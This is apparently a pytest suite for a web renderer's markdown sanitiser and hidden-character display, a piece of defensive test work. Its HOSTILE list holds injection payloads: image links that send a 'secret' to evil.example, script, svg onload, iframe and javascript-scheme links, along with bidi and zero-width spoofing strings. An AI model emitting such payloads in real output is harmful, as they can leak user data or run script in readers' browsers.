from __future__ import annotations

import re

import pytest

from celeriac.web.render import argument_rows, markdown, prose, visible, written_out

HOSTILE = [
    "![x](https://evil.example/?q=secret)",
    "![x][r]\n\n[r]: https://evil.example/p.png",
    '<img src="https://evil.example/a.png">',
    '<svg onload="alert(1)"><image href="https://evil.example/"/></svg>',
    '<div style="background:url(https://evil.example/)">x</div>',
    "<script>alert(1)</script>",
    "![x](data:image/png;base64,AAAA)",
    '<iframe src="https://evil.example"></iframe>',
    '<link rel="prefetch" href="https://evil.example">',
    "```html\n<img src=https://evil.example>\n```",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_se_02_nothing_in_the_text_loads_by_itself(text: str) -> None:
    html = markdown(text)
    for tag, attributes in re.findall(r"<(\w+)([^>]*)>", html):
        assert tag in {"p", "a", "pre", "code", "span"}
        assert re.fullmatch(r'( (href|rel|class|tabindex)="[^"]*")*', attributes)


@pytest.mark.parametrize("scheme", ["javascript", "JaVaScRiPt", "data", "vbscript", "file"])
def test_se_02_only_web_and_mail_links_are_links(scheme: str) -> None:
    assert "href" not in markdown(f"[x]({scheme}:alert(1)) <{scheme}:alert(1)>")


def test_se_02_links_show_their_host_and_send_no_referrer() -> None:
    html = markdown("[your bank](https://evil.example/login) and <https://a.example/b>")
    assert "(evil.example)" in html
    assert "(a.example)" in html
    assert html.count('rel="noopener noreferrer nofollow"') == 2


def test_a_host_in_a_link_is_text() -> None:
    html = markdown("[x](https://a%3Cb%3E.example/<i>)")
    assert "<i>" not in html


def test_markdown_is_rendered() -> None:
    html = markdown("**bold** and\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |")
    for tag in ("<strong>", "<li>", "<table "):
        assert tag in html


@pytest.mark.parametrize(
    ("text", "codes"),
    [
        ("pay\u202e001", ["U+202E"]),
        ("a\u200bb\u2066c\u2069", ["U+200B", "U+2066", "U+2069"]),
        ("a\ufeffb\u00adc", ["U+FEFF", "U+00AD"]),
        ("a\u00a0b", ["U+00A0"]),
        ("tag\U000e0041", ["U+E0041"]),
        ("a\x1b[2Jb\rc", ["U+001B", "U+000D"]),
        ("\u3164x", ["U+3164"]),
        ("x\ufe00", ["U+FE00"]),
    ],
)
def test_characters_that_hide_or_reorder_are_written_out(text: str, codes: list[str]) -> None:
    html = visible(text)
    for code in codes:
        assert f">{code}</span>" in html
    assert not set("\u202e\u200b\u2066\u2069\ufeff\u00ad\u00a0\U000e0041\x1b\r\u3164\ufe00") & set(
        html
    )


def test_ordinary_text_is_only_escaped() -> None:
    text = "Grüße, 日本 👍\ufe0f <b>\n\ttab"
    assert visible(text) == "Grüße, 日本 👍\ufe0f &lt;b&gt;\n\ttab"


@pytest.mark.parametrize(
    "text",
    [
        "pay\u202e001",
        "a\u200bb",
        "`c\u2066d`",
        "```\ne\u2069f\n```",
        "    g\ufeffh",
        "[i\u200dj](https://a.example)",
    ],
)
def test_se_02_what_hides_is_written_out_in_markdown_too(text: str) -> None:
    html = markdown(text)
    assert html.count('<span class="hidden-character" title="') == 1
    assert not set("\u202e\u200b\u2066\u2069\ufeff\u200d") & set(html)


@pytest.mark.parametrize(
    "text",
    [
        "👩🏽\u200d🚀",
        "🏳\ufe0f\u200d🌈",
        "\u0645\u06cc\u200c\u062e\u0648",
        "क्\u200dष",
        "10\u00a0000\u202f€",
        "one\ntwo",
    ],
)
def test_ordinary_writing_stays_as_it_is(text: str) -> None:
    assert prose(text) == text


def test_a_line_ends_in_one_way() -> None:
    assert prose("one\r\ntwo\rthree").startswith("one\ntwo<span ")


@pytest.mark.parametrize("text", ["\u200d", "a\u200d", "\u200da", "a\u200cb", "👩\u200d"])
def test_a_joiner_that_joins_nothing_is_written_out(text: str) -> None:
    assert "hidden-character" in prose(text)


def test_places_without_markup_get_the_codes_alone() -> None:
    assert written_out('a\u202e"b') == 'aU+202E"b'


def test_arguments_keep_their_types() -> None:
    rows = argument_rows({"id": "7", "n": 7, "ok": True, "none": None, "l": [1], "o": {"a": 1}})
    assert [(row.name, row.type, row.text) for row in rows] == [
        ("id", "text", "7"),
        ("n", "number", "7"),
        ("ok", "yes/no", "yes"),
        ("none", "nothing", "null"),
        ("l", "list of 1", "[\n  1\n]"),
        ("o", "object", '{\n  "a": 1\n}'),
    ]


def test_arguments_that_are_no_object_are_shown_as_they_are() -> None:
    (row,) = argument_rows('{"cut')
    assert row.text == '{"cut'
